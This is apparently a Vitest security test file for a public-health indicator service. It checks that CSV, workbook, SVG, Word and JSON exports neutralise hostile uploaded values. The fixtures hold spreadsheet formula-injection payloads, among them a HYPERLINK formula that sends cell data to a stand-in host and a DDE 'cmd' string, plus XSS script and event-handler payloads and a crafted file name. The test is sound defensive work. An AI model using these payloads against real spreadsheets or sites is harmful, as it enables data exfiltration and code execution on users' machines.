import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readWorkbook } from '../../../support/read-workbook.ts';
import { readXml } from '../../../support/read-xml.ts';
import { openTestService, type TestService } from '../open-test-service.ts';

/** What spreadsheets run, pages run, XML ends at or cannot hold, and terminals obey. */
const hostile = {
  indicator: `=HYPERLINK("http://evil.test?"&A1,"open")`,
  organisation: `+cmd|' /C calc'!A0 <script>alert(1)</script>`,
  motivation: `@SUM(1+1)*cmd ]]> & "quoted" 'single' <!-- --> <![CDATA[ &#0; &lol;`,
  strategies: `-2+3+cmd <img src=x onerror=alert(1)> \u0001\u0008\u001b[2J\u001b]0;owned\u0007\ufffe`,
  note: `=1+1; <svg onload=alert(1)> </text><script>alert(1)</script>`,
};

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

const observations = [
  'indicator,area_code,period,sex,age,category_type,category,value,lower95,upper95,count,denominator,note',
  ...['E92000001', 'E10000032', 'E06000043', 'E10000011'].flatMap((area) =>
    ['2021/22', '2022/23'].map(
      (period, at) =>
        `${quoted(hostile.indicator)},${area},${period},persons,0-14,,,${90 + at},80,99,,,${quoted(hostile.note)}`,
    ),
  ),
].join('\n');

const partners = [
  'area_code,organisation,organisation_code,partner_type,role,relation,theme,form,from,to,audiences,strategies,motivation,contact_role',
  `E10000032,${quoted(hostile.organisation)},,police,,member,roads,networking,,,,${quoted(hostile.strategies)},${quoted(hostile.motivation)},`,
].join('\n');

let service: TestService;
let indicator: string;

beforeAll(async () => {
  service = await openTestService();
  const name = encodeURIComponent(`=1+1<script>"'.csv`);
  const brought = await service.bring(observations, `policy=published-open&fileName=${name}`);
  const verdict = await brought.json();
  expect(brought.status, JSON.stringify(verdict)).toBe(201);
  indicator = encodeURIComponent(verdict.indicators[0]);
  const register = await service.bring(partners, `fileName=${name}`);
  expect(register.status, await register.text()).toBe(201);
});

afterAll(() => service.close());

const addresses = [
  'trends?indicator=INDICATOR&area=E10000032',
  'comparisons?indicator=INDICATOR',
  'profiles/E10000032?',
  'partners?area=E10000032',
  'partner-questions?area=E10000032',
  'indicators?',
  'extracts?',
];

const ask = async (address: string): Promise<Response> => {
  const response = await service.ask(`/api/v1/${address.replace('INDICATOR', indicator)}`);
  expect(response.status, address).toBe(200);
  return response;
};

describe('what came in with a file', () => {
  it.each(addresses)('is run by no spreadsheet that opens a table: %s', async (address) => {
    const text = await (await ask(`${address}&format=csv`)).text();
    const cells = Papa.parse<string[]>(text).data.flat();
    const formulas = cells.filter(
      (cell) => /^[=+\-@\t\r\n\0]/.test(cell) && !/^[-+]?[\d.]+(e-?\d+)?$/i.test(cell),
    );
    expect(formulas).toEqual([]);
  });

  it.each(addresses)('is text in every cell of a workbook of sound XML: %s', async (address) => {
    const bytes = new Uint8Array(await (await ask(`${address}&format=xlsx`)).arrayBuffer());
    for (const xml of xmlPartsOf(bytes)) expect(readXml(xml).map(({ name }) => name)).not.toContain('f');
    const texts = [...readWorkbook(bytes).sheets.values()].flatMap(({ cells }) => [...cells.values()]);
    expect(texts.filter((cell) => typeof cell === 'string' && /^[=+@\t\r]/.test(cell))).toEqual([]);
  });

  it.each([
    'charts/trend.svg?indicator=INDICATOR&area=E10000032',
    'charts/comparison.svg?indicator=INDICATOR',
    'charts/profile.svg?area=E10000032',
    'charts/partners.svg?area=E10000032',
  ])('is text in a figure of sound XML, which runs nothing: %s', async (address) => {
    const response = await ask(address);
    const elements = readXml(await response.text());
    expect(elements.map(({ name }) => name.toLowerCase())).not.toContain('script');
    expect(
      elements.flatMap(({ attributes }) => Object.keys(attributes)).filter((name) => /^on/i.test(name)),
    ).toEqual([]);
    expect(response.headers.get('content-security-policy')).toContain('sandbox');
  });

  it.each([
    'reports/injury-chapter.docx?area=E10000032',
    `reports/collected.docx?title=${encodeURIComponent('<&]]>\u0001')}&item=${encodeURIComponent('partners?area=E10000032')}`,
  ])('is text in a Word file of sound XML: %s', async (address) => {
    const bytes = new Uint8Array(await (await ask(address)).arrayBuffer());
    for (const xml of xmlPartsOf(bytes)) readXml(xml);
  });

  it.each(addresses)('leads no file name out of its header: %s', async (address) => {
    const disposition = (await ask(`${address}&format=csv`)).headers.get('content-disposition') ?? '';
    expect(disposition).toMatch(/^attachment; filename="[^"\\/\p{Cc}]+"; filename\*=UTF-8''[\w.%~!-]+$/u);
  });

  it('is told as JSON, which no browser takes for a page', async () => {
    const response = await ask('partners?area=E10000032');
    expect(response.headers.get('content-type')).toBe('application/json');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(JSON.stringify(await response.json())).toContain('<script>alert(1)</script>');
  });
});

/** The text of every part of an Office file that is XML. */
function xmlPartsOf(bytes: Uint8Array): string[] {
  const parts = Object.entries(unzipSync(bytes)).filter(([name]) => /\.(?:xml|rels)$/.test(name));
  expect(parts.length).toBeGreaterThan(3);
  return parts.map(([, part]) => strFromU8(part));
}
